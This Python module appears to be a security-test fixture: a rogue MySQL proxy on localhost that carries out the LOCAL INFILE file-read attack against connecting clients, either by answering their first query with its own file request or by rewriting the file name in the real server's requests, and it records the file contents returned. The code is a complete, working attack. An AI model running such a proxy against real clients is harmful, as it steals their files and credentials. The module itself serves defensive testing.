"""A rogue MySQL server for the security tests: a proxy on 127.0.0.1 in front of the real MariaDB.

It relays the protocol packet by packet and attacks clients that announce LOCAL INFILE support (the
``CLIENT_LOCAL_FILES`` capability) in one of two ways:

* ``hijack``: their first query (after ``SET NAMES``) is not forwarded; the proxy answers it itself with a
  file request (``0xFB`` and a file name of its choice), records every byte the client sends back, then
  says "OK";
* ``rename``: everything is forwarded, but each file request of the real server (the answer to a genuine
  ``LOAD DATA LOCAL``) has its file name replaced by one of the proxy's choice; the bytes sent back are
  recorded on their way to the server.

What the client sent is in :attr:`RogueMySQL.received` (one entry per file request answered).
"""

from __future__ import annotations

import socket
import struct
import threading
from dataclasses import dataclass, field

REAL_HOST, REAL_PORT = "127.0.0.1", 3306
CLIENT_LOCAL_FILES = 0x80
COM_QUERY = 0x03
#: An OK packet's payload: no rows, no insert id, autocommit status, no warning.
OK_PAYLOAD = b"\x00\x00\x00\x02\x00\x00\x00"


def _read_exact(sock: socket.socket, size: int) -> bytes:
    data = b""
    while len(data) < size:
        chunk = sock.recv(size - len(data))
        if not chunk:
            raise ConnectionError("closed")
        data += chunk
    return data


def read_packet(sock: socket.socket) -> tuple[int, bytes]:
    """One protocol packet: (sequence id, payload)."""
    header = _read_exact(sock, 4)
    size = header[0] | header[1] << 8 | header[2] << 16
    return header[3], _read_exact(sock, size)


def packet(seq: int, payload: bytes) -> bytes:
    """A protocol packet of ``payload`` with sequence id ``seq``."""
    return struct.pack("<I", len(payload))[:3] + bytes([seq & 0xFF]) + payload


@dataclass
class RogueMySQL:
    """The proxy; ``mode`` is ``hijack`` or ``rename`` (see the module), ``wanted`` the file it asks for."""

    mode: str
    wanted: str
    #: Attack every client, not only those announcing LOCAL INFILE support.
    any_client: bool = False
    received: list[bytes] = field(default_factory=list)
    requests: int = 0

    def __post_init__(self) -> None:
        self._listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self._listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self._listener.bind(("127.0.0.1", 0))
        self._listener.listen(16)
        self.port = self._listener.getsockname()[1]
        self._stop = threading.Event()
        threading.Thread(target=self._accept, daemon=True).start()

    def close(self) -> None:
        """Stop accepting connections."""
        self._stop.set()
        self._listener.close()

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                client, _ = self._listener.accept()
            except OSError:
                return
            server = socket.create_connection((REAL_HOST, REAL_PORT), timeout=30)
            state = {"local_files": False, "hijacked": False}
            threading.Thread(target=self._upstream, args=(client, server, state), daemon=True).start()
            threading.Thread(target=self._downstream, args=(server, client, state), daemon=True).start()

    def _record_file_data(self, client: socket.socket, forward: socket.socket | None) -> int:
        """Read the client's file data up to its empty packet (forwarding it when asked); the last seq."""
        data = b""
        while True:
            seq, payload = read_packet(client)
            if forward is not None:
                forward.sendall(packet(seq, payload))
            if not payload:
                break
            data += payload
        self.received.append(data)
        return seq

    def _upstream(self, client: socket.socket, server: socket.socket, state: dict[str, bool]) -> None:
        first = True
        file_data = b""
        try:
            while True:
                seq, payload = read_packet(client)
                if state.get("file_request") and seq != 0:  # the answer to a renamed request, on its way
                    file_data += payload
                    if not payload:
                        self.received.append(file_data)
                        file_data, state["file_request"] = b"", False
                    server.sendall(packet(seq, payload))
                    continue
                if first and len(payload) >= 4:  # the handshake response: the client's capabilities
                    state["local_files"] = bool(struct.unpack("<I", payload[:4])[0] & CLIENT_LOCAL_FILES)
                first = False
                # pymysql reads the answer to SET NAMES as one packet, whatever it is: the next query it is.
                command = seq == 0 and payload[:1] == bytes([COM_QUERY]) and b"SET NAMES" not in payload[:10]
                attacked = state["local_files"] or self.any_client
                if self.mode == "hijack" and command and attacked and not state["hijacked"]:
                    state["hijacked"] = True
                    self.requests += 1
                    client.sendall(packet(1, b"\xfb" + self.wanted.encode()))
                    last = self._record_file_data(client, None)
                    client.sendall(packet(last + 1, OK_PAYLOAD))
                    continue
                server.sendall(packet(seq, payload))
        except (ConnectionError, OSError):
            pass
        finally:
            for sock in (client, server):
                try:
                    sock.close()
                except OSError:
                    pass

    def _downstream(self, server: socket.socket, client: socket.socket, state: dict[str, bool]) -> None:
        try:
            while True:
                seq, payload = read_packet(server)
                if self.mode == "rename" and seq == 1 and payload[:1] == b"\xfb":
                    self.requests += 1
                    payload = b"\xfb" + self.wanted.encode()
                    state["file_request"] = True
                client.sendall(packet(seq, payload))
        except (ConnectionError, OSError):
            pass
        finally:
            for sock in (client, server):
                try:
                    sock.close()
                except OSError:
                    pass
